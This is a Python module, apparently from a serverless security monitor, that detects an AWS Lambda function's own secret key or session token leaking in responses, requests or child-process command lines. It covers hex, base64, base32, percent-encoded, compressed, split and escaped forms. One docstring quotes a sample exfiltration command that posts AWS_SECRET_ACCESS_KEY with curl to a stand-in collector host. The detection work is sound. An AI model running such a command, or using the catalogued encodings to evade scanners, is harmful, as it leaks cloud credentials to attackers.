"""Credential exfiltration: the function's own AWS credentials leaving in a response or a request.

The values come from the environment at check time (``AWS_SECRET_ACCESS_KEY``,
``AWS_SESSION_TOKEN``, ``AWS_ACCESS_KEY_ID``). A payload that contains the
secret key or the session token is an attack; the access key id alone is not a
secret (every SigV4 ``Authorization`` header carries it) and is only named in
the finding when it travels with one of the other two.

Each value is looked for as sent and in the forms code commonly turns it into
(percent-encoded, JSON with escaped slashes). The search is cheap on megabytes:
per value, one substring search for its longest run of characters that every
form keeps; only a hit there leads to the full forms. The encodings that keep
no such run (hex in either case, reversed, base64 and base64url at each byte
alignment, so inside a larger encoded blob too) are one substring search each.
A part that starts as gzip or zlib data is searched decompressed (up to 8 MB).
A value split in two anywhere leaves one of its two overlapping halves whole in
one piece, so each half is searched too, and counted where it is not part of a
whole occurrence (a presigned URL's token holds both halves). Every occurrence
is looked at: a response listing hundreds of presigned URLs hides no leak.

The session token legitimately leaves in one place: SigV4, in the
``X-Amz-Security-Token`` header of a signed request or query parameter of a
presigned URL (which handlers routinely return). Without the secret key it
cannot sign anything, so occurrences right after that name are not counted,
unless the secret key travels with them. Requests to AWS endpoints are not
checked at all: signing them is what the credentials are for.

The session token is also how a function proves itself to the AWS Parameters
and Secrets Lambda Extension and the AWS Secrets Manager Agent: a request to
``localhost`` on their port (``PARAMETERS_SECRETS_EXTENSION_HTTP_PORT``,
default 2773) carries it in ``X-Aws-Parameters-Secrets-Token`` (the agent also
takes ``X-Vault-Token``). The token never leaves the sandbox there, so that
header of a request to that port of a loopback address is a legitimate place
too; the same token anywhere else in that request (its path, its body), or the
secret key, is still exfiltration, and so is that header sent to any other
host or port.
"""
from __future__ import annotations

import binascii
import os
from collections import namedtuple
from functools import lru_cache
from urllib.parse import quote

from ..findings import AttackKind, Finding

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Mapping
    from typing import Any

    from ..sources import Inputs

SECRET_KEY = "AWS_SECRET_ACCESS_KEY"
SESSION_TOKEN = "AWS_SESSION_TOKEN"
KEY_ID = "AWS_ACCESS_KEY_ID"
MIN_SECRET_LENGTH = 8
MIN_ANCHOR = 8
DECODE_FREELY = 65536  # base64 bodies up to this size are simply decoded
_SIGV4_PREFIXES = ("x-amz-security-token=", "x-amz-security-token: ", "x-amz-security-token:",
                   '"x-amz-security-token": "', '"x-amz-security-token":"')
_AWS_SUFFIXES = (".amazonaws.com", ".amazonaws.com.cn", ".api.aws")
_EXTENSION_PREFIXES = ("\nx-aws-parameters-secrets-token: ", "\nx-aws-parameters-secrets-token:",
                       "\nx-vault-token: ", "\nx-vault-token:")
EXTENSION_PORT = "PARAMETERS_SECRETS_EXTENSION_HTTP_PORT"
DEFAULT_EXTENSION_PORT = 2773
_LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost", "::1", "0:0:0:0:0:0:0:1"})


class Payload(namedtuple("Payload", "parts outbound host port stream", defaults=(False, "", None, False))):
    """What is about to leave: ``parts``, named pieces of text or bytes (``(name, content)``, or
    ``(name, text, "base64")`` for a base64 body, judged on what it decodes to); ``outbound``
    True for an HTTP request the function sends (else the handler's response); ``host`` and
    ``port`` that request's destination; ``stream`` True when the parts are the end of a stream
    still being sent (a credential cut at their end may be whole once its next piece comes)."""

    __slots__ = ()


class _Secret(namedtuple("_Secret", "name forms anchor sigv4 aligned encoded halves")):
    """One credential: its forms as (form name, text), the anchor every form keeps, whether it
    may appear where SigV4 puts the session token, the anchor base64-encoded at each of the
    three byte alignments (a base64 text that holds none of them cannot decode to the secret),
    the encodings that keep no anchor, as (form name, needle, forms) (``_encodings``), and its two
    overlapping halves with the whole forms each lies in, at their offsets (``_halves``)."""

    __slots__ = ()


def _anchor(value: str) -> str:
    """The longest run of characters that percent-encoding and JSON escaping leave alone, if long enough."""
    best = _safe_run(value)
    return best if len(best) >= MIN_ANCHOR else ""


def _lower_hex(text: str) -> str:
    head, *rest = text.split("%")
    return head + "".join(f"%{part[:2].lower()}{part[2:]}" for part in rest)


def _forms(value: str) -> tuple[tuple[str, str], ...]:
    found: dict[str, str] = {value: "as is"}
    for encoded in (quote(value, safe=""), quote(value, safe="/")):
        found.setdefault(encoded, "percent-encoded")
        found.setdefault(_lower_hex(encoded), "percent-encoded")
    found.setdefault(value.replace("/", "\\/"), "JSON-escaped")
    return tuple((name, text) for text, name in found.items())


def _aligned(anchor: str) -> tuple[str, ...]:
    raw = anchor.encode("latin-1", "replace")
    encoded = []
    for skip in range(3):
        usable = (len(raw) - skip) // 3 * 3
        if usable < 3:
            return ()
        encoded.append(binascii.b2a_base64(raw[skip:skip + usable], newline=False).decode("ascii"))
    return tuple(encoded)


def _encodings(value: str) -> tuple[tuple[str, str, tuple[str, ...]], ...]:
    """The value hex-encoded (either case), reversed, and base64-encoded (standard and URL-safe), as
    (form name, needle, forms): a part that holds the needle holds the value if it holds one of
    the forms.

    Base64 inside a larger blob (``base64(json.dumps({"key": secret}))``) encodes the secret
    differently at each of the three byte offsets it can start at, so each alignment is a form:
    the encoded whole 3-byte groups that follow the first ``skip`` bytes. Standard and URL-safe
    base64 differ only in ``+/`` and ``-_``, so one needle, the longest run without them, serves
    both. With the two halves (``_halves``), eight substring searches per credential and part:
    7.5-8.7 µs added on a 2 KB JSON body, about 1 ms on a 1 MB one (two credentials, 2 shared
    cores; the anchor search alone was 1.9 µs and 0.29 ms), nothing else on a body that holds none.
    """
    raw = value.encode("utf-8", "surrogatepass")
    encoded: list[tuple[str, str, tuple[str, ...]]] = [
        ("hex-encoded", raw.hex(), (raw.hex(),)), ("hex-encoded", raw.hex().upper(), (raw.hex().upper(),)),
        ("reversed", value[::-1], (value[::-1],))]
    for skip in range(3):
        usable = (len(raw) - skip) // 3 * 3
        if usable >= 6:
            standard = binascii.b2a_base64(raw[skip:skip + usable], newline=False).decode("ascii")
            url_safe = standard.replace("+", "-").replace("/", "_")
            needle = max(standard.replace("+", "/").split("/"), key=len)
            encoded.append(("base64-encoded", needle if len(needle) >= MIN_ANCHOR else standard,
                            (standard,) if url_safe == standard else (standard, url_safe)))
    for skip in range(5):  # base32 (DNS labels, TOTP-style tooling) at each of its five byte alignments
        usable = (len(raw) - skip) // 5 * 5
        if usable >= 10:
            upper = _base32(raw[skip:skip + usable])
            name = "base32-encoded" if skip == 0 else _SHIFTED_BASE32
            encoded.append((name, upper, (upper,)))
            encoded.append((name, upper.lower(), (upper.lower(),)))
    return tuple(encoded)


def _base32(data: bytes) -> str:
    import base64  # only when the credentials are first read

    return base64.b32encode(data).decode("ascii")


MIN_HALF = 16
# base32 of a credential inside a larger encoded blob: searched in whole payloads (``scan``), not in every
# raw socket send, where its eight needles doubled the cost (139 -> 270 µs for 64 KB, ``bench.sends``).
_SHIFTED_BASE32 = "base32-encoded (inside a larger text)"


def _halves(value: str) -> tuple[tuple[str, tuple[tuple[str, int], ...]], ...]:
    """``value[:ceil(n/2)]`` and ``value[floor(n/2):]``: split in two anywhere, one piece holds one.

    A split at ``p`` leaves the first half whole in the first piece when ``p >= ceil(n/2)``, else
    the second half whole in the second. Twenty characters of a random 40-character key occur
    nowhere by chance.
    """
    half = len(value) // 2
    if len(value) - half < MIN_HALF:
        return ()
    forms = [form for _, form in _forms(value)]
    return tuple((piece, tuple((form, form.find(piece)) for form in forms if piece in form))
                 for piece in (value[:len(value) - half], value[half:]))


@lru_cache(maxsize=4)
def _secrets(secret_key: str, token: str) -> tuple[_Secret, ...]:
    secrets = []
    for name, value, sigv4 in ((SECRET_KEY, secret_key, False), (SESSION_TOKEN, token, True)):
        if len(value) >= MIN_SECRET_LENGTH:
            anchor = _anchor(value)
            secrets.append(_Secret(name, _forms(value), anchor, sigv4, _aligned(anchor or value), _encodings(value),
                                   _halves(value)))
    return tuple(secrets)


_ENCODED_NAMES = (os.fsencode(SECRET_KEY), os.fsencode(SESSION_TOKEN)) if os.name == "posix" else None


@lru_cache(maxsize=4)
def _secrets_from_environment(secret_key: bytes | None, token: bytes | None) -> tuple[_Secret, ...]:
    return _secrets(os.fsdecode(secret_key or b""), os.fsdecode(token or b""))


def own_secrets() -> tuple[_Secret, ...]:
    """The function's credentials as they are in the environment now.

    ``os.environ.get`` encodes the name and decodes the value on every call (about 1 µs each);
    on POSIX the mapping behind ``os.environ`` holds the same values, read here directly.
    """
    data = getattr(os.environ, "_data", None)
    if _ENCODED_NAMES is not None and isinstance(data, dict):
        return _secrets_from_environment(data.get(_ENCODED_NAMES[0]), data.get(_ENCODED_NAMES[1]))
    return _secrets(os.environ.get(SECRET_KEY, ""), os.environ.get(SESSION_TOKEN, ""))


@lru_cache(maxsize=256)
def is_aws_endpoint(host: str) -> bool:
    host = host.strip().rstrip(".").lower()
    return host == "amazonaws.com" or host.endswith(_AWS_SUFFIXES)


def _extension_ports() -> tuple[int, ...]:
    configured = os.environ.get(EXTENSION_PORT, "").strip()
    if configured.isdigit() and int(configured) != DEFAULT_EXTENSION_PORT:
        return DEFAULT_EXTENSION_PORT, int(configured)
    return (DEFAULT_EXTENSION_PORT,)


def is_local_secrets_extension(host: str, port: object) -> bool:
    """A request to the Parameters and Secrets extension (or the Secrets Manager Agent) in this sandbox.

    Loopback only: ``localhost`` or an address in 127.0.0.0/8 or ``::1``, never a name that merely
    resolves there (the request goes wherever the resolver says, and it says it per call).
    """
    host = host.strip().strip("[]").rstrip(".").lower()
    parts = host.split(".")
    loopback = host in _LOOPBACK_NAMES or (
        len(parts) == 4 and parts[0] == "127" and all(part.isdigit() and int(part) < 256 for part in parts))
    return loopback and isinstance(port, int) and port in _extension_ports()


def _as_text(content: str | bytes) -> str:
    if isinstance(content, str):
        return content
    return content.decode("latin-1")  # one byte, one character: every ASCII secret keeps its offsets


def _signed_position(text: str, index: int) -> bool:
    before = text[max(0, index - 32):index].lower()
    return before.endswith(_SIGV4_PREFIXES)


def _extension_header(text: str, index: int, length: int) -> bool:
    """The whole value of a token header the local secrets extension reads (``text`` holds header lines)."""
    before = ("\n" + text[max(0, index - 40):index]).lower()
    if not before.endswith(_EXTENSION_PREFIXES):
        return False
    end = index + length
    return text[end:end + 2] in ("\r\n", "") or text[end:end + 1] == "\n"


_BASE64_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_=")
MAX_BLOB = 65536  # characters of a base64 blob read around an encoded session token


def _signed_blob(text: str, index: int, secret: _Secret) -> bool:
    """Whether the base64 blob around ``index`` decodes to the token only where SigV4 puts it.

    A presigned POST's ``policy`` field is base64 JSON whose conditions name the session token
    (``{"x-amz-security-token": "..."}``), next to the token itself in its own field.
    """
    start = index
    while start > 0 and index - start < MAX_BLOB and text[start - 1] in _BASE64_CHARS and text[start - 1] != "=":
        start -= 1
    end = index
    while end < len(text) and end - index < MAX_BLOB and text[end] in _BASE64_CHARS:
        end += 1
    blob = text[start:end].replace("-", "+").replace("_", "/").rstrip("=")
    try:
        decoded = binascii.a2b_base64(blob + "=" * (-len(blob) % 4)).decode("latin-1")
    except (binascii.Error, ValueError):
        return False
    token = secret.forms[0][1]
    found = decoded.find(token)
    if found == -1:
        return False
    while found != -1:
        if not _signed_position(decoded, found):
            return False
        found = decoded.find(token, found + 1)
    return True


def _occurrences(text: str, secret: _Secret) -> list[tuple[str, int]]:
    """(form name, index) of every occurrence of ``secret`` in ``text`` (``scan`` has checked that the
    anchor occurs). No cap: a response listing a hundred presigned URLs must not hide the one leak
    after them; each occurrence costs one substring search and a 32-character look behind it."""
    hits: list[tuple[str, int]] = []
    for form_name, form in secret.forms:
        index = text.find(form)
        while index != -1:
            hits.append((form_name, index))
            index = text.find(form, index + len(form))
    return hits


def _split(text: str, secret: _Secret, stream: bool = False) -> bool:
    """Whether a half of the secret occurs other than inside a whole form of it (split across fields).

    Whether an occurrence of a half lies inside a whole form is read at that place (the forms the
    half occurs in, at their offsets), so every occurrence is looked at, however many there are.
    In a ``stream``, a form that runs past the end of the text (its next piece is still to come)
    or began before its start (the piece kept from before was cut) is not a split: the send that
    completes it finds it whole.
    """
    for half, within in secret.halves:
        index = text.find(half)
        while index != -1:
            if not any(index >= offset and text.startswith(form, index - offset) for form, offset in within) and \
                    not (stream and _cut_at_an_end(text, index, within)):
                return True
            index = text.find(half, index + 1)
    return False


def _cut_at_an_end(text: str, index: int, within: tuple[tuple[str, int], ...]) -> bool:
    for form, offset in within:
        start = index - offset
        end = start + len(form)
        if (start >= 0 and end > len(text) and form.startswith(text[start:])) or (
                start < 0 and end <= len(text) and form.endswith(text[:end])):
            return True
    return False


def _decoded(text: str, secrets: tuple[_Secret, ...]) -> str | None:
    """What a base64 body decodes to, when it may hold a secret; None when it cannot.

    Decoding runs at a few hundred MB/s; three substring searches per secret for its anchor
    at each byte alignment run several times faster, so a large body is decoded only on a hit.
    Line-wrapped (MIME) base64 breaks the alignment: it is always decoded.
    """
    if len(text) > DECODE_FREELY and not any(ch in text for ch in "\r\n ") and all(
            secret.aligned and not any(encoded in text for encoded in secret.aligned) for secret in secrets):
        return None
    try:
        return binascii.a2b_base64(text).decode("latin-1")
    except (binascii.Error, ValueError):
        return None


MAX_INFLATED = 8 * 1024 * 1024  # characters of a compressed part read (a Lambda payload is at most 6 MB)


def _inflated(text: str) -> str | None:
    """What a gzip, zlib (deflate), bzip2 or xz part decompresses to, at most ``MAX_INFLATED`` characters.

    Recognised by its magic bytes (gzip ``1f 8b``; zlib ``78`` with a valid header check; ``BZh`` and
    xz's six), so a part that is not compressed costs a comparison or two.
    """
    if text.startswith(("BZh", "\xfd7zXZ\x00")):
        return _unpacked(text)
    head = text[:2]
    if head != "\x1f\x8b" and not (len(head) == 2 and head[0] == "x" and (ord(head[0]) * 256 + ord(head[1])) % 31 == 0):
        return None
    import zlib

    try:
        data = text.encode("latin-1")
        return zlib.decompressobj(47).decompress(data, MAX_INFLATED).decode("latin-1")
    except (zlib.error, UnicodeEncodeError):
        return None


def _unpacked(text: str) -> str | None:
    """A bzip2 or xz part decompressed (their modules imported only for such a part)."""
    try:
        data = text.encode("latin-1")
        if text.startswith("BZh"):
            import bz2

            return bz2.BZ2Decompressor().decompress(data, MAX_INFLATED).decode("latin-1")
        import lzma

        return lzma.LZMADecompressor().decompress(data, MAX_INFLATED).decode("latin-1")
    except (OSError, EOFError, ValueError, UnicodeEncodeError):
        return None


_ESCAPES = ("%", "\\u", "\\x", "&#", "\x00")


@lru_cache(maxsize=1)
def _escape_pattern() -> Any:
    import re

    return re.compile(r"\\u([0-9a-fA-F]{4})|\\x([0-9a-fA-F]{2})")


def _unescaped(text: str) -> str | None:
    """``text`` with NUL bytes dropped (UTF-16/32), JSON/Python ``\\uXXXX``/``\\xXX`` escapes, HTML
    character references and percent-escapes decoded, when it has any: code that escapes every character
    (``"".join(f"%{b:02X}" ...)``) keeps no anchor run of the credential."""
    if not any(marker in text for marker in _ESCAPES):
        return None
    if "\x00" in text:  # UTF-16 or UTF-32 of ASCII text: the characters with NUL bytes between them
        text = text.replace("\x00", "")
    from urllib.parse import unquote

    if "\\" in text:
        text = _escape_pattern().sub(lambda m: chr(int(m.group(1) or m.group(2), 16)), text)
    if "&#" in text:
        import html

        text = html.unescape(text)
    return unquote(text) if "%" in text else text


def scan(parts: tuple, extension: bool = False, stream: bool = False) -> list[tuple[str, str, str, bool]]:
    """(secret name, part name, form name, in a legitimate position) of every own credential found.

    ``extension``: the request goes to the local secrets extension, whose token headers are
    legitimate positions of the session token (only in the request's headers).
    """
    secrets = own_secrets()
    if not secrets:
        return []
    found = []
    for part in parts:
        part_name, content = part[0], part[1]
        if not content:
            continue
        if len(part) > 2 and part[2] == "base64":
            decoded = _decoded(content, secrets) if isinstance(content, str) else None
            if decoded is None:
                continue
            text = decoded
        else:
            text = content if isinstance(content, str) else _as_text(content)
        inflated = _inflated(text)
        if inflated is not None:
            text, part_name = inflated, f"{part_name} (decompressed)"
        unescaped: str | None = None
        for secret in secrets:
            for form_name, needle, forms in secret.encoded:
                if needle not in text:
                    continue
                for form in forms:
                    index = text.find(form)
                    if index != -1:
                        signed = secret.sigv4 and form_name == "base64-encoded" and _signed_blob(text, index, secret)
                        found.append((secret.name, part_name, form_name, signed))
                        break
            if secret.halves and _split(text, secret, stream):
                found.append((secret.name, part_name, "split", False))
            if secret.anchor and secret.anchor not in text:
                if unescaped is None:
                    unescaped = _unescaped(text) or ""
                if unescaped and secret.forms[0][1] in unescaped:  # every character escaped: never SigV4's
                    found.append((secret.name, part_name, "escaped", False))
                continue  # the substring searches a clean part costs: the encodings, the halves, the anchor
            in_headers = extension and (part_name == "headers" or part_name.startswith("request to "))
            for form_name, index in _occurrences(text, secret):
                legitimate = secret.sigv4 and (_signed_position(text, index) or (
                    in_headers and form_name == "as is" and _extension_header(text, index, len(secret.forms[0][1]))))
                found.append((secret.name, part_name, form_name, legitimate))
    return found


# ---------------------------------------------------------------- the cheap look at raw bytes

_ZLIB_HEADERS = frozenset(bytes((0x78, second)) for second in range(256) if (0x78 * 256 + second) % 31 == 0)


MAX_NEEDLE = 40  # bytes: longer needles fall to CPython's slower search paths (two-way, saturated skip filter)
MIN_CASELESS_HEX = 12


def _middle(text: str) -> bytes:
    """A slice of ``text`` at most MAX_NEEDLE long: what every occurrence of ``text`` holds too."""
    start = max(0, (len(text) - MAX_NEEDLE) // 2)
    return text[start:start + MAX_NEEDLE].encode("utf-8", "surrogatepass")


def _caseless_hex(encoded: str) -> str | None:
    """The longest run of decimal digits in a hex form: the same in upper- and lower-case hex."""
    best = max("".join(ch if ch.isdigit() else " " for ch in encoded).split() or [""], key=len)
    return best if len(best) >= MIN_CASELESS_HEX else None


def _safe_run(text: str) -> str:
    """The longest run of ``text`` that percent-encoding and JSON escaping leave alone."""
    best, run = "", []
    for ch in text + "/":
        if ch.isalnum() or ch in "-_.~":
            run.append(ch)
            continue
        if len(run) > len(best):
            best = "".join(run)
        run = []
    return best


@lru_cache(maxsize=4)
def _byte_needles(secrets: tuple[_Secret, ...]) -> tuple[tuple[bytes, ...], int]:
    """The substrings one of which every recognised form of a credential holds, as bytes, and the
    length of the longest form (what a stream must keep of its past to see a form split across sends).

    Per credential: in each of its two halves, a run that percent-encoding and JSON escaping keep
    (a whole plain, percent-encoded or JSON-escaped form holds both; a value split in two leaves one
    half, so one of them, whole), or its anchor where a half has no such run of MIN_ANCHOR
    characters; a slice of each encoding's needle (hex, one needle for both cases where its hex has
    a run of 12 digits, as almost every key's has; reversed; base64 at each alignment). Seven per
    credential as a rule, each at most MAX_NEEDLE bytes long: a needle as long as a 1,000-character
    token took 90 µs to search 64 KB, one of 40 bytes 5-8 µs.
    """
    needles: dict[bytes, None] = {}
    longest = 0
    for secret in secrets:
        value = secret.forms[0][1]
        runs = [_safe_run(half) for half, _ in secret.halves]
        if len(runs) == 2 and all(len(run) >= MIN_ANCHOR for run in runs):
            for run in runs:
                needles[_middle(run)] = None
        else:
            needles[_middle(secret.anchor or value)] = None
            for half, _ in secret.halves:
                needles[_middle(half)] = None
        caseless = None
        for name, needle, forms in secret.encoded:
            if name == _SHIFTED_BASE32:
                continue
            longest = max(longest, *map(len, forms))
            if name == "hex-encoded":
                caseless = caseless or _caseless_hex(needle)
                if caseless:
                    needles[_middle(caseless)] = None
                    continue
            needles[_middle(needle)] = None
        longest = max(longest, *(len(form) for _, form in secret.forms))
    return tuple(needles), longest


_raw_memo: tuple = (None, None)


def raw_needles() -> tuple[tuple[bytes, ...], int] | None:
    """``_byte_needles`` of the function's credentials as they are now; None when it has none.

    Remembered by the identity of ``own_secrets()``'s answer: the cache of ``_byte_needles`` hashes
    its argument, a tuple of tuples that holds the token in its forms (2 µs a call)."""
    global _raw_memo
    secrets = own_secrets()
    if not secrets:
        return None
    if _raw_memo[0] is not secrets:
        _raw_memo = (secrets, _byte_needles(secrets))
    return _raw_memo[1]


def may_hold(data: bytes | bytearray, compressed: bool = True) -> bool:
    """Whether ``data`` may hold one of the function's credentials in a form ``scan`` recognises.

    Substring searches in C only, one per needle (``_byte_needles``), and a look at the first two
    bytes for compressed data (``compressed``; not for a piece cut out of the middle of a stream):
    what a raw socket send costs when it holds none (``sinks.sends``).
    """
    needles = raw_needles()
    if needles is None:
        return False
    if compressed and (data[:2] == b"\x1f\x8b" or bytes(data[:2]) in _ZLIB_HEADERS or data[:3] == b"BZh"
                       or data[:6] == b"\xfd7zXZ\x00"):
        return True
    return any(map(data.__contains__, needles[0]))


class Command(namedtuple("Command", "text program")):
    """A child process about to start: ``text`` its command line (arguments joined by spaces, shell
    variables the shell would expand from the child's environment already put in), ``program`` its name."""

    __slots__ = ()


def _detect_command(command: Command) -> Finding | None:
    """The secret key or the session token on a child's command line: the child holds it to send it
    (``curl -d "$AWS_SECRET_ACCESS_KEY" https://collector``); SigV4 positions do not exempt the token here,
    since a command that signs requests never needs it on its command line."""
    found = scan((("command line", command.text),))
    if not found:
        return None
    names = sorted({name for name, *_ in found})
    places = sorted({f"{part} ({form})" if form != "as is" else part for _, part, form, _ in found})
    return Finding(AttackKind.CREDENTIAL_EXFILTRATION, "credential_exfiltration.child",
                   f"the function's own {' and '.join(names)} on the command line of a child process "
                   f"({command.program})", None, f"{', '.join(names)} found in {', '.join(places)}; values withheld")


def _key_id_present(parts: tuple) -> bool:
    key_id = os.environ.get(KEY_ID, "")
    if len(key_id) < MIN_SECRET_LENGTH:
        return False
    return any(content and not encoding and key_id in _as_text(content) for _, content, *encoding in parts)


def detect(payload: Payload | Command, inputs: Inputs | None, options: Mapping[str, Any]) -> Finding | None:
    """``inputs`` are not used: the sinks call this without making the invocation flatten its event."""
    if isinstance(payload, Command):
        return _detect_command(payload) if options.get("outbound", True) else None
    if payload.outbound and (not options.get("outbound", True) or is_aws_endpoint(payload.host)):
        return None
    found = scan(payload.parts, stream=payload.stream)
    if found and payload.outbound and is_local_secrets_extension(payload.host, payload.port):
        # a request that holds a credential: the rare case pays
        found = scan(payload.parts, extension=True, stream=payload.stream)
    if not found:
        return None
    secret_key_found = any(name == SECRET_KEY for name, *_ in found)
    leaked = [hit for hit in found if not hit[3] or secret_key_found]
    if not leaked:
        return None  # only the session token, only where SigV4 puts it
    names = sorted({name for name, *_ in leaked})
    if _key_id_present(payload.parts):
        names.append(KEY_ID)
    places = sorted({f"{part} ({form})" if form != "as is" else part for _, part, form, _ in leaked})
    what = " and ".join(names)
    if payload.outbound:
        message = f"the function's own {what} in a request to {payload.host}"
        rule = "credential_exfiltration.outbound"
    else:
        message = f"the function's own {what} in the response"
        rule = "credential_exfiltration.response"
    return Finding(AttackKind.CREDENTIAL_EXFILTRATION, rule, message, None,
                   f"{', '.join(names)} found in {', '.join(places)}; values withheld")
